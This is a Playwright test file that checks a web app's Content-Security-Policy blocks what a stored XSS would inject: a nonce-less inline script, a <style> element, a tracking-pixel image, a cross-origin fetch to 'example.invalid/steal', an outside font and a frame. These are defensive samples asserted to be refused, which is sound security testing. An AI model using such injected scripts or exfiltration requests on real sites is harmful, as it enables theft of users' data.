import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';

// The Content-Security-Policy (decision 037): everything from this origin only, scripts also inline with the response's
// nonce, style attributes but no <style> element, connections to this origin (and LiveKit's, video-call.spec.ts), no
// frames. Every page must still hydrate and run live (Remix's own inline scripts carry the nonce), and what a stored
// XSS would inject (a script, a <style>, an image or a request to another origin, a font, a frame) must be refused.
// Violations are collected by a listener the browser installs before any page script.

declare global {
  interface Window {
    __cspViolations: string[];
    __injectedRan?: boolean;
    __fetched?: string;
    __remixRouter?: unknown;
  }
}

async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.__cspViolations.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
}

const violations = (page: Page) => page.evaluate(() => window.__cspViolations);

test('public pages hydrate under the policy, the cached ones too, and an injected inline script does not run', async ({
  browser,
}) => {
  // A context of its own: the fixtures' context fails a test that ends with a violation, and this one makes one.
  const page = await (await browser.newContext()).newPage();
  await watchViolations(page);
  // /mandates twice: the second view may come from the page cache, with the first view's nonce and policy.
  // /mandates's progress bars and /results's are style attributes (style-src-attr); the yearly summary's charts and
  // print layout a linked stylesheet (app/report-print.css).
  for (const path of ['/', '/mandates', '/mandates', '/initiatives', 'yearly summary', '/results']) {
    const response =
      path === 'yearly summary'
        ? await page.goto((await page.getByRole('link', { name: /yearly summary/i }).getAttribute('href'))!)
        : await page.goto(path);
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/script-src 'self' 'nonce-[^']+'/);
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("style-src 'self'; style-src-attr 'unsafe-inline'");
    await page.waitForFunction(() => window.__remixRouter !== undefined);
    expect(await violations(page), path).toEqual([]);
    if (path === 'yearly summary') {
      // The report's stylesheet is linked and applies (its bars sit in flex rows); no inline <style> is left.
      await expect(page.locator('link[rel="stylesheet"][href*="report-print"]')).toHaveCount(1);
      await expect(page.locator('.bar-row').first()).toHaveCSS('display', 'flex');
      expect(await page.locator('style').count()).toBe(0);
    }
  }
  // Client-side navigation works (it needs the route modules the nonce-carrying scripts load).
  await page.goto('/');
  await page.waitForFunction(() => window.__remixRouter !== undefined);
  await page.evaluate(() => ((window as Window & { __sameDocument?: boolean }).__sameDocument = true));
  await page
    .getByRole('navigation', { name: 'Main navigation' })
    .getByRole('link', { name: 'Mandates', exact: true })
    .click();
  await expect(page).toHaveURL(/\/mandates$/);
  expect(await page.evaluate(() => (window as Window & { __sameDocument?: boolean }).__sameDocument)).toBe(true);

  // Positive control: an inline script without the nonce, as a stored XSS would add one, is refused.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injectedRan = true';
    document.body.append(script);
  });
  await expect.poll(() => violations(page)).toEqual([expect.stringMatching(/^script-src/)]);
  expect(await page.evaluate(() => window.__injectedRan)).toBeUndefined();
});

test('what a stored XSS could inject besides a script is refused: a <style>, images, requests, fonts and frames elsewhere', async ({
  browser,
}) => {
  const page = await (await browser.newContext()).newPage();
  await watchViolations(page);
  await page.goto('/mandates');
  await page.waitForFunction(() => window.__remixRouter !== undefined);
  const refused = async (directive: RegExp, inject: () => Promise<unknown>) => {
    const before = (await violations(page)).length;
    await inject();
    await expect.poll(async () => (await violations(page)).slice(before)).toEqual([expect.stringMatching(directive)]);
  };

  // A <style> element (style-src 'self'): refused, and the page looks as before.
  const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const original = await background();
  await refused(/^style-src-elem /, () =>
    page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { background: rgb(255, 0, 0) !important; }';
      document.head.append(style);
    }),
  );
  expect(await background()).toBe(original);
  // A style attribute still applies (style-src-attr 'unsafe-inline': the progress bars and charts need it).
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<p id="styled-by-attribute" style="width: 123px">x</p>');
  });
  await expect(page.locator('#styled-by-attribute')).toHaveCSS('width', '123px');

  // An image from another origin (img-src 'self'), as a tracking pixel in a message would be.
  await refused(/^img-src https:\/\/example\.invalid\/x\.png/, () =>
    page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<img src="https://example.invalid/x.png" alt="">'),
    ),
  );
  // A request to another origin (connect-src 'self' without LiveKit here), as one carrying the page's data away.
  await refused(/^connect-src https:\/\/example\.invalid/, () =>
    page.evaluate(() =>
      fetch('https://example.invalid/steal')
        .then(() => (window.__fetched = 'sent'))
        .catch(() => (window.__fetched = 'refused')),
    ),
  );
  expect(await page.evaluate(() => window.__fetched)).toBe('refused');
  // A font from elsewhere (font-src 'self').
  await refused(/^font-src https:\/\/example\.invalid/, () =>
    page.evaluate(() => new FontFace('Elsewhere', 'url(https://example.invalid/f.woff2)').load().catch(() => null)),
  );
  // A frame, even of this site (frame-src 'none').
  await refused(/^frame-src /, () =>
    page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<iframe src="/mandates" title="x"></iframe>')),
  );
  // This origin's own requests still go through.
  expect(await page.evaluate(() => fetch('/healthz').then((r) => r.status))).toBe(200);
});

test('a signed-in person’s room works live under the policy', async ({ page, make }) => {
  await watchViolations(page);
  const person = await make.person('HN', 'national_coordinator', { name: `Coordinator ${make.tag}` });
  const room = await make.room({ organizations: ['HN'] });
  await make.logIn(page, person);
  await page.goto(room.url);
  await expect(page.getByText(/^Live\b/)).toBeVisible();
  const text = `Under the policy ${make.tag}`;
  await page.getByLabel('Your message').fill(text);
  await page.getByLabel('Your message').press('Enter');
  await expect(page.getByLabel('Your message')).toHaveValue('');
  await expect(page.getByRole('list', { name: 'Messages' }).getByText(text)).toBeVisible();
  expect(await violations(page)).toEqual([]);
});
